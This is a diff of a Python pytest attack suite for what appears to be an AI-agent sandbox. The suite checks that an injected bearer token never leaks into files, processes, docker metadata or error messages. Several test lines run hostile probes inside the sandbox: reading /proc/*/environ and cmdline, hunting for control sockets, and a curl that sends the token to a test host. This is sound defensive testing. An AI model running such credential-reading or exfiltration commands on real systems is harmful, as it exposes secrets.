@@ -17,12 +17,12 @@ from urllib.parse import quote
 import pytest
 
 from bb_jupyter import manifest
+from bb_jupyter.core.bottle_handle import BottleHandle, LaunchOptions
+from bb_jupyter.core.session import Session
 from bb_jupyter.errors import BottleError, ManifestError
-from bb_jupyter.gateway.plan import EgressPlan, RoutePlan
-from bb_jupyter.gateway.redact import Masker
-from bb_jupyter.held_bottle import HeldBottle, LaunchOptions
+from bb_jupyter.gateway.egress_plan import EgressPlan, RoutePlan
+from bb_jupyter.gateway.proxy.redact import Masker
 from bb_jupyter.selftest import CHECKS, Canary, Probe, selftest
-from bb_jupyter.session import Session
 from tests.attack.conftest import TOKEN, TOKEN_REF, Walled, yaml_of
 from tests.attack.service import Service
 from tests.contract.conftest import Launch, out
@@ -35,7 +35,7 @@ MASKER = Masker([TOKEN])
 @pytest.fixture
 def armed(
     launch: Launch, service: Service, bottle_name: str, monkeypatch: pytest.MonkeyPatch
-) -> Callable[[], HeldBottle]:
+) -> Callable[[], BottleHandle]:
     """Launch a bottle with a credential on one of its two routes."""
     monkeypatch.setenv(TOKEN_REF, TOKEN)
     auth = {"scheme": "bearer", "token_ref": TOKEN_REF}
@@ -46,16 +46,16 @@ def armed(
 
 def test_no_secret_in_the_bottle_its_plan_or_its_records(walled: Walled) -> None:
     assert walled.curl("https://secret.test/reflect").stdout.endswith(b"\n500")
-    verdicts = selftest(walled.held, checks=SECRETS)
+    verdicts = selftest(walled.handle, checks=SECRETS)
     assert [str(verdict) for verdict in verdicts if verdict.ok is not True] == []
 
 
-def test_every_file_written_for_the_bottle_is_clean(armed: Callable[[], HeldBottle], home: Path) -> None:
-    held = armed()
-    execution, log = held.run("env; curl -sS https://secret.test/reflect; cat /proc/*/environ 2>/dev/null; :")
+def test_every_file_written_for_the_bottle_is_clean(armed: Callable[[], BottleHandle], home: Path) -> None:
+    handle = armed()
+    execution, log = handle.run("env; curl -sS https://secret.test/reflect; cat /proc/*/environ 2>/dev/null; :")
     execution.wait()
     log.close()
-    held.exec(
+    handle.exec(
         ["curl", "-sS", f"https://read.test/{quote(TOKEN)}", "-d", "x"]
     ).wait()  # should it ever come back that way
     for path in (path for path in home.rglob("*") if path.is_file()):
@@ -121,7 +121,7 @@ def test_a_credential_that_the_server_reflects_is_masked(walled: Walled) -> None
     assert b"Bearer of-the-agent" in plain.stdout  # what is the agent's own is not touched where nothing is injected
 
 
-def test_no_process_shows_the_secret_while_a_bottle_starts_and_works(armed: Callable[[], HeldBottle]) -> None:
+def test_no_process_shows_the_secret_while_a_bottle_starts_and_works(armed: Callable[[], BottleHandle]) -> None:
     started: list[str] = []
     watching = True
 
@@ -135,15 +135,15 @@ def test_no_process_shows_the_secret_while_a_bottle_starts_and_works(armed: Call
     looking = threading.Thread(target=lambda: seen.extend(_arguments_until(done)))
     looking.start()
     try:
-        held = armed()
-        out(held, "curl -sS https://secret.test/echo")
-        held.cp_in(Path(__file__), "file")
-        inside = _host_processes(held)
+        handle = armed()
+        out(handle, "curl -sS https://secret.test/echo")
+        handle.cp_in(Path(__file__), "file")
+        inside = _host_processes(handle)
     finally:
         watching = False
         done.set()
         looking.join()
-    held.stop()
+    handle.stop()
     assert [line for line in started if MASKER.finds(line.encode())] == []
     assert seen == []
     assert [line for line in inside if MASKER.finds(line)] == []
@@ -161,7 +161,7 @@ def _arguments_until(done: threading.Event) -> Iterator[bytes]:
                 yield line
 
 
-def _host_processes(held: HeldBottle) -> list[bytes]:
+def _host_processes(handle: BottleHandle) -> list[bytes]:
     """Return the environment of the processes that this one has started: guest, gateway."""
     found = []
     for task in Path("/proc/self/task").glob("*/children"):
@@ -194,7 +194,7 @@ def test_a_credential_that_is_not_there_stops_the_launch(
         launch(bottle=bottle_name)
     assert len(str(told.value).splitlines()) <= 2
     assert "lines" not in str(told.value)
-    assert session.held() == []
+    assert session.handles() == []
     assert not (home / "audit").exists()
 
 
@@ -209,15 +209,21 @@ def test_an_empty_secret_file_stops_the_launch(launch: Launch, bottle_name: str,
 
 
 def test_no_traceback_and_no_repr_quotes_a_secret(
-    armed: Callable[[], HeldBottle], monkeypatch: pytest.MonkeyPatch, session: Session
+    armed: Callable[[], BottleHandle], monkeypatch: pytest.MonkeyPatch, session: Session
 ) -> None:
-    held = armed()
-    texts = [repr(held), repr(held.bottle.network), repr(session.active()), str(held.plan), held.plan._repr_html_()]
+    handle = armed()
+    texts = [
+        repr(handle),
+        repr(handle.bottle.network),
+        repr(session.active()),
+        str(handle.plan),
+        handle.plan._repr_html_(),
+    ]
     monkeypatch.setenv(TOKEN_REF, f"{TOKEN}\nnext")
     for act in (
-        lambda: held.bottle.allow(EgressPlan((RoutePlan("x.test", auth_scheme="bearer", token_ref=TOKEN_REF),))),
+        lambda: handle.bottle.allow(EgressPlan((RoutePlan("x.test", auth_scheme="bearer", token_ref=TOKEN_REF),))),
         lambda: session.launch(
-            "other", LaunchOptions(backend=held.plan.spec.backend, bottle=held.plan.spec.manifest.name)
+            "other", LaunchOptions(backend=handle.plan.spec.backend, bottle=handle.plan.spec.manifest.name)
         ),
     ):
         with pytest.raises(BottleError) as told:
@@ -229,7 +235,7 @@ def test_no_traceback_and_no_repr_quotes_a_secret(
 
 def test_an_agent_cannot_find_its_gateways_memory_or_files(walled: Walled) -> None:
     found = out(
-        walled.held,
+        walled.handle,
         "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'; ls -la /proc/*/fd 2>/dev/null; :",
     )
     assert "bb_jupyter.gateway" not in found
@@ -248,13 +254,13 @@ def test_settings_of_the_machine_are_not_lent_with_its_programs(launch: Launch) 
 
 @pytest.mark.docker
 @pytest.mark.parametrize("backend", ["docker"], indirect=True)
-def test_docker_shows_no_secret(engine: Engine, armed: Callable[[], HeldBottle]) -> None:
+def test_docker_shows_no_secret(engine: Engine, armed: Callable[[], BottleHandle]) -> None:
     """Neither `docker inspect` of its containers and volumes, nor history and layers of its images."""
-    held = armed()
+    handle = armed()
     with engine.client() as client:
-        mine = {"label": f"{SLUG_LABEL}={held.plan.slug}"}
+        mine = {"label": f"{SLUG_LABEL}={handle.plan.slug}"}
         containers = client.containers.list(filters=mine)
-        containers = [container for container in containers if "donor" not in container.name]  # it may go any time
+        containers = [container for container in containers if "handoff" not in container.name]  # it may go any time
         assert len(containers) == 2
         shown = [json.dumps(container.attrs) for container in containers]
         shown += [json.dumps(volume.attrs) for volume in client.volumes.list(filters=mine)]
@@ -284,18 +290,18 @@ def _changes(container: object) -> bytes:
 
 
 def test_the_agent_cannot_ask_its_gateway_for_the_control_channel(walled: Walled) -> None:
-    """Neither control socket nor donor socket is anywhere in the bottle."""
-    sockets = out(walled.held, "cat /proc/net/unix; find / -xdev -type s 2>/dev/null; :")
+    """Neither control socket nor handoff socket is anywhere in the bottle."""
+    sockets = out(walled.handle, "cat /proc/net/unix; find / -xdev -type s 2>/dev/null; :")
     assert "control" not in sockets
-    assert "donate" not in sockets
+    assert "hand_off" not in sockets
 
 
 def test_the_canary_secret_of_a_selftest_is_looked_for(canary: Canary, walled: Walled) -> None:
     """The check itself: a bottle that has been given the secret is found out."""
-    walled.held.exec(["sh", "-c", 'cat > "$HOME/.token"'], stdin=canary.secret.encode()).wait()
+    walled.handle.exec(["sh", "-c", 'cat > "$HOME/.token"'], stdin=canary.secret.encode()).wait()
     try:
-        verdicts = [check(Probe(walled.held, canary)) for check in SECRETS]
+        verdicts = [check(Probe(walled.handle, canary)) for check in SECRETS]
     finally:
-        walled.held.exec(["rm", ".token"]).wait()
+        walled.handle.exec(["rm", ".token"]).wait()
     assert [verdict.promise for verdict in verdicts if not verdict.ok] == ["P2.files"]
     assert os.environ["BB_SELFTEST_TOKEN"] == canary.secret
